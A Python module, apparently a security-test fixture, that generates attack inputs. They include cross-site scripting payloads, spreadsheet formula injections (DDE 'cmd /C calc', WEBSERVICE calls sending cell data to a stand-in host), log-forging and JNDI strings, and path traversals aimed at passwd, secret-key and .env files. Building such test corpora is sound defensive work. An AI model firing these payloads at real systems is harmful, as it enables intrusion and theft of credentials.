"""What attackers write: texts that a browser, a spreadsheet, a log or a file system might obey."""

from __future__ import annotations

import itertools
import random
from urllib.parse import quote

# a page under attack defines `fx`, which notes the number; a payload that runs names itself
_ELEMENTS = (
    "<img src=x onerror=fx({n})>",
    "<img/src=x/onerror=fx({n})>",
    '<IMG SRC="x" OnErRoR="fx({n})">',
    "<img src=x\nonerror\t=\nfx({n})>",
    "<svg onload=fx({n})>",
    "<svg/onload=fx({n})>",
    "<svg><script>fx({n})</script></svg>",
    "<svg><animate onbegin=fx({n}) attributeName=x dur=1s>",
    "<script>fx({n})</script>",
    "<script src=data:text/javascript,fx({n})></script>",
    "<iframe src=javascript:parent.fx({n})></iframe>",
    "<iframe srcdoc='<script>parent.fx({n})</script>'></iframe>",
    "<body onload=fx({n})>",
    "<details open ontoggle=fx({n})>x</details>",
    "<video><source onerror=fx({n})></video>",
    "<audio src=x onerror=fx({n})></audio>",
    "<input autofocus onfocus=fx({n})>",
    "<select autofocus onfocus=fx({n})></select>",
    "<marquee onstart=fx({n})>x</marquee>",
    "<object data=javascript:fx({n})></object>",
    "<embed src=javascript:fx({n})>",
    "<a href=javascript:fx({n})>x</a>",
    '<a href="java\tscript:fx({n})">x</a>',
    "<form action=javascript:fx({n})><button>x</button></form>",
    "<button formaction=javascript:fx({n})>x</button>",
    "<math href=javascript:fx({n})>x</math>",
    "<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart=fx({n})>x</b>",
    '<noscript><p title="</noscript><img src=x onerror=fx({n})>">',
    "<meta http-equiv=refresh content=0;url=javascript:fx({n})>",
    "<b onmouseover=fx({n}) onclick=fx({n})>x</b>",
)
_BEFORE = ("", '">', "'>", "</td></textarea></title></style>", "--></script>", "]]>")
_OTHERS = (
    "javascript:fx({n})",
    " JaVaScRiPt:fx({n})",
    "java\nscript:fx({n})",
    "data:text/html,<script>parent.fx({n})</script>",
    "vbscript:fx({n})",
    "[点击](javascript:fx({n}))",
    '![x](x"onerror="fx({n}))',
    "$\\href{{javascript:fx({n})}}{{x}}$",
    "{{{{constructor.constructor('fx({n})')()}}}}",
    "${{fx({n})}}",
    "#{{fx({n})}}",
    "<%= fx({n}) %>",
    '";fx({n});//',
    "';fx({n});//",
    "\\u003cimg src=x onerror=fx({n})\\u003e",
    "&lt;img src=x onerror=fx({n})&gt;",
    "&#x3C;img src=x onerror=fx({n})&#x3E;",
    "%3Cimg src=x onerror=fx({n})%3E",
    "\uff1cimg src=x onerror=fx({n})\uff1e",
    "<x\u2028/><img src=x onerror=fx({n})>",
)
WEB = [
    text.format(n=number)
    for number, text in enumerate(
        [before + element for before, element in itertools.product(_BEFORE, _ELEMENTS)]
        + list(_OTHERS)
    )
]

SHEET = [
    "=1+1", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example","点")', '=WEBSERVICE("http://x.example/"&A1)',
    '=IMPORTXML("http://x.example","//a")', "=DDE(\"cmd\";\"/C calc\";\"x\")", "{=1+1}",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "http://x.example/a", "https://x.example",
    "ftp://x.example", "mailto:a@x.example", "internal:Sheet1!A1", "external:c:\\x.xlsx",
    "file:///etc/passwd", " =1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", '"=1+1', "'=1+1",
    ";=1+1", ",=1+1", "x\n=1+1", "x\r\n=1+1", "00123", "1e9", "=\u00a01+1",
]  # fmt: skip

LOGGED = [
    "x\nlevel=error event=login_ok", "x\r\n{\"event\":\"login\",\"outcome\":\"ok\"}", "x\rforged",
    '"}\n{"event":"forged"}', '","event":"forged","x":"', "\\n{\"event\":\"forged\"}",
    "\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\x9b31m", "\x00nul", "\x08\x08\x08back",
    "\u2028next", "\u2029para", "\u0085nel", "\x0bvt\x0cff", "\ud800lone", "\u202egnp.exe", "${jndi:ldap://x}",
    "%0d%0aSet-Cookie: a=b", "{event}", "%(event)s", "\ufeffbom", "'\"`;--", "a" * 4000,
]  # fmt: skip


def traversals(count: int = 500) -> list[str]:
    """Ways out of a folder, each other than the rest; the same ones in every run."""
    ups = ["../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "%252e%252e%252f", "..;/",
           "....//", "..././", "%c0%ae%c0%ae/", "..%c0%af", ".%2e/", "..%00/", "\u2025/", "/../",
           "//..//", "./../", "..%u2215", "\uff0e\uff0e/"]  # fmt: skip
    goals = ["etc/passwd", "secrets/vault.key", "cases.sqlite3", "CURRENT.json", "facts.json",
             "var/secrets/session.key", "proc/self/environ", "windows/win.ini", ".env", "site.toml",
             "core.duckdb", "hash.key"]  # fmt: skip
    tails = ["", "%00.pdf", "?x.pdf", "#.pdf", ";x", ".", "/", "%20"]
    every = [
        up * depth + goal + tail
        for depth, up, goal, tail in itertools.product((1, 3, 8), ups, goals, tails)
    ]
    every += [quote(each, safe="") for each in every[:200]]
    return random.Random(7).sample(list(dict.fromkeys(every)), count)
